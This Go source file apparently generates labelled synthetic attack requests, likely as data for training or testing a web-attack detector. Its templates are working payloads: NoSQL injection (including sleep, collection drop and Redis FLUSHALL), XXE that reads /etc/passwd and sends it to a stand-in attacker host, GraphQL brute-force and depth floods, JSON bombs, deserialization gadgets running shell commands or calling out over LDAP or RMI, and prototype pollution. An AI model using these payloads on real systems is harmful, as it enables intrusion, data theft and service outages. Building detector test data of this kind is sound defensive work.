package south

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// raw is a family that puts JSON of its own, not a string, where its spots say.
func raw(name, class string, at []string, templates ...string) family {
	return family{name: name, class: class, build: func(g *gen) Sample {
		text := g.say(pick(g, templates))
		return g.fill(g.spot(pick(g, at)), leaf{value: text, json: text})
	}}
}

func attackNoSQL() []family {
	objects := []string{"json POST /login ‹password|username|token›", "json POST ~ ‹filter|where|query›", "json POST ~ user.‹id|email|name›", "rpc POST /rpc find.‹owner|selector›", "gqlvar POST /graphql where.‹id|name›", "jsonapi POST ~ ‹key|criteria›", "grpc POST /v1/users:find query.‹id|filter›"}
	brackets := func(suffix string) []string {
		return []string{"query GET ~ ‹user|id|filter|token›" + suffix, "form POST /login ‹username|password|otp›" + suffix, "multipart POST /login ‹email|pin›" + suffix}
	}
	keyed := func(name string, at []string, say ...string) family {
		return family{name: "nosqli/" + name, class: "nosqli", at: at, say: say}
	}
	// operator is an attack whose mark is the field's name: the value in question is the whole of name and value.
	operator := func(name, suffix string, say ...string) family {
		return family{name: "nosqli/" + name, class: "nosqli", build: func(g *gen) Sample {
			sp := g.spot(pick(g, brackets(suffix)))
			s := g.fill(sp, leaf{value: g.say(pick(g, say))})
			s.Value = sp.key + "=" + s.Value
			return s
		}}
	}
	return []family{
		raw("nosqli/not-equal", "nosqli", objects, `{"$ne":null}`, `{"$ne":"‹letters›"}`, `{"$ne":‹num›}`, `{"$not":{"$eq":"‹h-ascii›"}}`, `{"$nin":["‹letters›","‹letters›"]}`),
		raw("nosqli/greater", "nosqli", objects, `{"$gt":""}`, `{"$gte":"‹letters›","$lt":"~"}`, `{"$gt":‹num›,"$ne":‹num›}`, `{"$exists":true}`, `{"$type":2,"$gt":""}`),
		raw("nosqli/regex", "nosqli", objects, `{"$regex":"^‹letters›.*"}`, `{"$regex":".{‹1..30›}","$options":"si"}`, `{"$regex":"^[a-‹letters›]","$ne":"‹letters›"}`, `{"$in":[{"$regex":""},"‹letters›"]}`),
		raw("nosqli/where-js", "nosqli", objects, `{"$where":"this.‹letters› == this.‹letters› || true"}`, `{"$where":"sleep(‹secs›000) || 1"}`, `{"$where":"function(){ return this.password.match(/^‹letters›/) }"}`, `{"$or":[{},{"‹letters›":"‹letters›"}]}`, `{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}`),
		raw("nosqli/aggregate", "nosqli", objects, `[{"$lookup":{"from":"‹table›","localField":"_id","foreignField":"_id","as":"‹letters›"}}]`, `[{"$match":{}},{"$out":"‹letters›"}]`, `{"$expr":{"$gt":["$‹letters›",‹num›]}}`, `[{"$unionWith":"‹letters›"}]`),
		operator("bracket-ne", "[$ne]", "‹letters›", "‹num›", "-1"),
		operator("bracket-regex", "[$regex]", "^‹letters›", ".*", ".{‹1..40›}", "^(?=a).*"),
		operator("bracket-others", "[$‹gt|gte|lt|exists|nin][]|where|not][$eq|in][]›", "‹letters›", "1", "‹num›", "true"),
		keyed("js-break", fieldSpots(), "‹h›' || '1'=='1", "‹h›'; return true; var x='", "‹h›'||this.password.length>‹1..30›||'", "'; while(1);var ‹letters›='", "‹num›;sleep(‹secs›000)", "‹h›\" || true || \"", "' && this.role=='admin' && '", "‹h›'});db.‹letters›.drop();//", "a';const d=new Date();while((new Date())-d<‹secs›000);'"),
		keyed("object-as-text", fieldSpots(), `{"$ne":null}`, `{"$gt":"","$ne":"‹letters›"}`, `{"username":{"$regex":"^‹letters›"},"password":{"$ne":1}}`, `[$ne]=‹num›`, `{$where:'sleep(‹secs›000)'}`, `true, $where: '1 == 1'`, `{"$or":[{"‹letters›":{"$exists":true}}]}`),
		keyed("redis-and-others", fieldSpots(), "‹h›\r\nSET ‹letters› ‹letters›\r\n", "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n", "\r\nFLUSHALL\r\n", "‹h›\r\nCONFIG SET dir /var/www/html\r\n", "‹user›' }) RETURN 1 UNION MATCH (n) DETACH DELETE n //", "‹h›'}) MATCH (u:User) RETURN u.password //", "‹h›' OR 1=1 RETURN n//"),
	}
}

func attackEntities() []family {
	docs := func(name string, templates ...string) family {
		return family{name: "xxe/" + name, class: "xxe", twist: "none", build: func(g *gen) Sample {
			return g.carriesXML(g.say(pick(g, templates)))
		}}
	}
	return []family{
		docs("file", "<?xml version=\"1.0\"?><!DOCTYPE ‹letters› [<!ENTITY xxe SYSTEM \"file:///‹etc/passwd|etc/hostname|c:/windows/win.ini|proc/self/environ›\">]><order><name>‹noun›</name><note>&xxe;</note></order>", "<!DOCTYPE r [\n<!ELEMENT r ANY >\n<!ENTITY src SYSTEM 'php://filter/read=convert.base64-encode/resource=‹index|config|‹letters››.php'>\n]><r>‹noun› &src;</r>", "<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE a [<!ENTITY b PUBLIC \"-//x//y\" \"file:///etc/‹shadow|issue|hosts›\">]><a><b>‹name›</b><c>&b;</c></a>"),
		docs("remote", "<!DOCTYPE note SYSTEM \"http://‹evil›/‹letters›.dtd\"><note>‹noun›</note>", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY r SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><d><title>&r;</title></d>", "<!DOCTYPE d [<!ENTITY f SYSTEM \"ftp://‹evil›/‹letters›\">]><d>‹sentence›&f;</d>"),
		docs("parameter", "<!DOCTYPE ‹letters› [<!ENTITY % ext SYSTEM \"http://‹evil›/x.dtd\"> %ext;]><‹letters›/>", "<!DOCTYPE m [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM 'http://‹evil›/?%f;'>\">%e;%s;]><m>‹noun›</m>", "<!DOCTYPE a [<!ENTITY % local SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"> %local;]><a>‹num›</a>"),
		docs("entity-bomb", "<!DOCTYPE z [<!ENTITY a \"‹letters›\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;\">]><z>&e;</z>", "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY x0 \"‹longtext›\"><!ENTITY x1 \"&x0;&x0;&x0;&x0;\"><!ENTITY x2 \"&x1;&x1;&x1;&x1;\">]><q><n>‹num›</n>&x2;&x2;&x2;</q>"),
		docs("xinclude-xslt", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/><n>‹noun›</n></foo>", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('file:///etc/‹passwd|group›')\"/></xsl:template></xsl:stylesheet>", "<svg xmlns:xi=\"http://www.w3.org/2001/XInclude\"><text>‹noun›</text><xi:include href=\"http://‹evil›/‹letters›\"/></svg>"),
		docs("svg-and-soap", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"‹num›\"><text y=\"9\">&x;</text></svg>", "<soap:Body><find><!DOCTYPE d [<!ENTITY % x SYSTEM \"http://‹evil›/\"> %x;]><![CDATA[‹noun›]]></find></soap:Body>", "<!DOCTYPE rss [<!ENTITY t SYSTEM \"expect://id\">]><rss version=\"2.0\"><channel><title>&t;</title></channel></rss>"),
	}
}

// carriesXML puts an XML document into a request: as its body, or within a field.
func (g *gen) carriesXML(text string) Sample {
	if g.chance(55) {
		sp := g.spot("xml POST ‹/legacy/import|/ws/orders|/feeds/push|/saml/acs› -")
		return g.document(sp, text, pick(g, []string{"application/xml", "text/xml; charset=utf-8", "application/soap+xml"}), text, "xml")
	}
	at := pick(g, []string{"upload POST /media/upload file", "form POST /saml/acs xml", "json POST /convert document.xml", "query GET /parse xml", "rpc POST /rpc doc.source", "gqlvar POST /graphql input.svg", "multipart POST /import payload", "cookie GET ~ state"})
	return g.fill(g.spot(at), leaf{value: text})
}

func attackGraphs() []family {
	doc := func(name string, write func(g *gen) string) family {
		return family{name: "graphql/" + name, class: "graphql", twist: "none", build: func(g *gen) Sample {
			return g.fill(g.spot("gqldoc POST ‹/graphql|/api/graphql|/-/graphql› -"), leaf{value: write(g)})
		}}
	}
	return []family{
		doc("deep", func(g *gen) string {
			a, b, n := g.slot("en-noun"), g.slot("en-noun"), g.between(18, 120)
			return "query { me { id " + strings.Repeat(a+" { "+b+" { ", n) + "id" + strings.Repeat(" } }", n) + " } }"
		}),
		doc("aliases", func(g *gen) string {
			field, n := g.slot("en-noun"), g.between(60, 400)
			var b strings.Builder
			for i := range n {
				fmt.Fprintf(&b, "%s%d: %s(id: %s) { id } ", g.from("abcxyz", 1), i, field, g.slot("num"))
			}
			return "{ " + b.String() + "}"
		}),
		doc("login-aliases", func(g *gen) string {
			user := g.slot("user")
			var b strings.Builder
			for i := range g.between(30, 150) {
				fmt.Fprintf(&b, "t%d: login(user: %q, password: %q) { token }\n", i, user, g.slot("letters")+g.digits(2))
			}
			return "mutation {\n" + b.String() + "}"
		}),
		doc("introspection", func(g *gen) string {
			return g.say(pick(g, []string{"query ‹IntrospectionQuery|‹upper›› { ‹|‹letters›: ›__schema { queryType { name } mutationType { name } types { ...FullType } directives { name args { name } } } } fragment FullType on __Type { kind name fields(includeDeprecated: true) { name args { name type { name kind ofType { name } } } } }", "{ ‹|‹en-noun› { id } ›__schema { types { name ‹kind|description› fields { name } } } }", "query ‹upper› { ‹letters›: __type(name: \"‹User|Query|Mutation|‹upper››\") { name fields { name type { name kind ofType { name } } } } }", "{‹letters›:__schema\n{queryType{fields{name ‹description|isDeprecated›}}}}"}))
		}),
		doc("circular-fragments", func(g *gen) string {
			return g.say("query { ‹en-noun› { ...A } } fragment A on ‹upper› { id ‹en-noun› { ...B } } fragment B on ‹upper› { name ‹en-noun› { ...A } }")
		}),
		doc("directive-flood", func(g *gen) string {
			return g.say("query { ‹en-noun› { id ") + strings.Repeat("@"+pick(g, []string{"skip(if:false)", "include(if:true)", g.slot("letters")})+" ", g.between(80, 600)) + "} }"
		}),
		doc("field-repeat", func(g *gen) string {
			return "query { viewer { " + strings.Repeat(g.slot("en-noun")+" ", g.between(400, 2500)) + "} }"
		}),
		{name: "graphql/batch", class: "graphql", twist: "none", build: func(g *gen) Sample {
			var items []string
			doc := g.say("query { ‹login|otp|coupon›(code: \"‹upper›\") { ok } }")
			for range g.between(25, 200) {
				items = append(items, fmt.Sprintf(`{"query":%q,"variables":{"n":%s}}`, strings.Replace(doc, "code: \"", "code: \""+g.digits(3), 1), g.slot("num")))
			}
			text := "[" + strings.Join(items, ",") + "]"
			s := g.fill(g.spot("rawjson POST /graphql -"), leaf{value: text, json: text})
			s.Place = "graphql"
			return s
		}},
	}
}

func attackBombs() []family {
	bomb := func(name string, write func(g *gen) string) family {
		return family{name: "jsonbomb/" + name, class: "jsonbomb", twist: "none", build: func(g *gen) Sample {
			value := write(g)
			at := pick(g, []string{"json POST ~ ‹data|filter|payload›", "rawjson POST ~ -", "json PUT ~ items[].‹meta|attrs›", "rpc POST /rpc args"})
			return g.fill(g.spot(at), leaf{value: value, json: value})
		}}
	}
	return []family{
		bomb("deep-arrays", func(g *gen) string {
			n := g.between(150, 9000)
			return strings.Repeat("[", n) + g.slot("num1") + strings.Repeat("]", n)
		}),
		bomb("deep-objects", func(g *gen) string {
			n, key := g.between(120, 4000), g.from("abcdefgh", g.between(1, 4))
			return strings.Repeat(`{"`+key+`":`, n) + "1" + strings.Repeat("}", n)
		}),
		bomb("unclosed", func(g *gen) string {
			return strings.Repeat(pick(g, []string{"[", `[{"a":`, "[[1,", `{"` + g.slot("letters") + `":[`}), g.between(200, 3000))
		}),
		bomb("huge-numbers", func(g *gen) string {
			return pick(g, []string{g.digits(g.between(900, 9000)), "1e" + g.digits(g.between(6, 14)) + "9", "-0." + g.digits(g.between(900, 6000)) + "1", "[1e99999" + g.digits(3) + ",-1E+" + g.digits(9) + "7]"})
		}),
		bomb("many-keys", func(g *gen) string {
			var b strings.Builder
			prefix := g.slot("letters")
			for i := range g.between(1500, 3500) {
				fmt.Fprintf(&b, `"%s%d":%d,`, prefix, i, g.r.IntN(10))
			}
			return "{" + strings.TrimSuffix(b.String(), ",") + "}"
		}),
		bomb("same-key", func(g *gen) string {
			key := g.slot("letters")
			return "{" + strings.Repeat(fmt.Sprintf(`"%s":%s,`, key, g.digits1()), g.between(500, 4000)) + `"` + key + `":null}`
		}),
	}
}

func (g *gen) digits1() string { return g.from("123456789", 1) }

func attackObjects() []family {
	serial := func(name string, say ...string) family {
		return family{name: "deserialization/" + name, class: "deserialization", at: []string{"cookie GET ~ ‹session|state|remember_me›", "json POST ~ ‹state|data|object›", "form POST ~ ‹viewstate|data|obj›", "query GET ~ ‹data|state›", "header GET ~ ‹x-session-state|x-object›", "rpc POST /rpc state.data", "gqlvar POST /graphql input.state", "multipart POST /import object", "xml POST /legacy object.data", "path GET /state -"}, say: say}
	}
	packed := func(name string, write func(g *gen) []byte) family {
		f := serial(name)
		f.twist = "none"
		f.build = func(g *gen) Sample {
			return g.request(pick(g, f.at), pick(g, []*base64.Encoding{base64.StdEncoding, base64.StdEncoding, base64.URLEncoding}).EncodeToString(write(g)))
		}
		return f
	}
	protoSpots := []string{"json PATCH ~ ‹profile|settings|options›", "json POST ~ config.‹merge|defaults›", "rpc POST /rpc settings", "gqlvar POST /graphql input.‹meta|prefs›", "rawjson POST ~ -", "jsonapi PATCH ~ prefs"}
	return []family{
		packed("java-stream", func(g *gen) []byte {
			class := pick(g, []string{"java.util.HashMap", "org.apache.commons.collections.functors.InvokerTransformer", "java.util.PriorityQueue", "com.sun.rowset.JdbcRowSetImpl", "javax.management.BadAttributeValueExpException"})
			return append([]byte("\xac\xed\x00\x05sr\x00"+string(rune(len(class)))+class), g.bytes(g.between(20, 300))...)
		}),
		packed("python-pickle", func(g *gen) []byte {
			return []byte(pick(g, []string{"\x80\x04\x95\x2b\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c", "\x80\x03cposix\nsystem\nq\x00X", "cos\nsystem\n(S'"}) + g.slot("unixcmd") + pick(g, []string{"\x94\x85\x94R\x94.", "'\ntR."}))
		}),
		packed("dotnet-formatter", func(g *gen) []byte {
			return append([]byte("\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00ISystem.Windows.Data, ObjectDataProvider System.Diagnostics.Process"), g.bytes(g.between(20, 200))...)
		}),
		serial("php-object", "O:‹4..20›:\"‹upper›\":1:{s:‹3..9›:\"‹letters›\";s:‹2..30›:\"‹unixcmd›\";}", "a:2:{i:0;O:8:\"stdClass\":1:{s:1:\"x\";i:‹num›;}i:1;R:2;}", "O:+9:\"Evil‹letters›\":0:{}", "phar://‹dirs›/‹slug›.jpg/‹letters›", "O:21:\"Monolog\\Handler\\‹upper›\":2:{s:6:\"buffer\";N;s:3:\"cmd\";s:2:\"id\";}", "C:11:\"ArrayObject\":37:{x:i:0;O:4:\"‹up4›\":0:{};m:a:0:{}}"),
		serial("node-function", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('‹unixcmd›')}()\"}", "_$$ND_FUNC$$_function (){ return process.env }()", "{\"‹letters›\":\"_$$ND_FUNC$$_() => global.process.mainModule.require('fs').readFileSync('/etc/passwd')\"}"),
		serial("yaml-tags", "!!python/object/apply:os.system ['‹unixcmd›']", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://‹evil›/\"]]]]", "--- !ruby/object:Gem::Installer\ni: ‹letters›", "‹letters›: !!python/object/new:subprocess.Popen [[‹letters›, -c]]", "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://‹evil›/x', autoCommit: true}"),
		serial("polymorphic-json", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://‹evil›/‹letters›\",\"autoCommit\":true}", "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://‹evil›/‹letters›.xml\"]", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}", "{\"@class\":\"ch.qos.logback.core.db.JNDIConnectionSource\",\"jndiLocation\":\"ldap://‹evil›\"}", "{\"py/object\":\"os.system\",\"py/reduce\":[{\"py/function\":\"os.system\"},{\"py/tuple\":[\"‹unixcmd›\"]}]}"),
		serial("xstream", "<java.util.PriorityQueue serialization='custom'><unserializable-parents/><javax.naming.ldap.Rdn_-RdnEntry><type>‹letters›</type></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue>", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>‹letters›</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>", "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>‹unixcmd›</string></void></object></java>"),
		raw("prototype/proto-object", "prototype", protoSpots, `{"__proto__":{"‹isAdmin|role|admin|polluted›":‹true|1|"‹letters›"›}}`, `{"‹en-noun›":"‹en-noun›","__proto__":{"‹letters›":"‹letters›"}}`, `{"a":{"__proto__":{"shell":"/bin/sh","NODE_OPTIONS":"--require ‹letters›"}}}`, `{"__proto__":["‹letters›"],"n":‹num1›}`),
		raw("prototype/constructor-object", "prototype", protoSpots, `{"constructor":{"prototype":{"‹isAdmin|debug|‹letters››":true}}}`, `{"‹en-noun›":{"constructor":{"prototype":{"outputFunctionName":"x;process.mainModule.require('child_process').exec('id');s"}}}}`, `{"constructor":{"prototype":{"‹letters›":"‹letters›","length":‹num1›}},"v":"‹ver›"}`),
		{name: "prototype/bracket-params", class: "prototype", twist: "none", build: func(g *gen) Sample {
			sp := g.spot(pick(g, []string{"query GET ~ __proto__[‹isAdmin|role|‹letters››]", "query GET ~ constructor[prototype][‹letters›]", "form POST ~ user[__proto__][‹admin|‹letters››]", "form POST ~ __proto__.‹letters›", "multipart POST ~ opts[constructor][prototype][‹letters›]"}))
			s := g.fill(sp, leaf{value: g.say("‹true|1|admin|‹letters››")})
			s.Value = sp.key + "=" + s.Value
			return s
		}},
		{name: "prototype/path-as-text", class: "prototype", at: []string{"json PATCH ~ ‹path|field|key›", "query GET ~ ‹key|sort|path›", "jsonkey PATCH ~ set", "rpc POST /rpc set.path", "form POST ~ field"}, say: []string{"__proto__.‹isAdmin|‹letters››", "constructor.prototype.‹letters›", "‹en-noun›.__proto__.toString", "/__proto__/‹letters›", "__proto__[‹letters›]", "a.b.constructor.prototype.‹letters›", "‹en-noun›[__proto__][‹letters›]"}},
	}
}
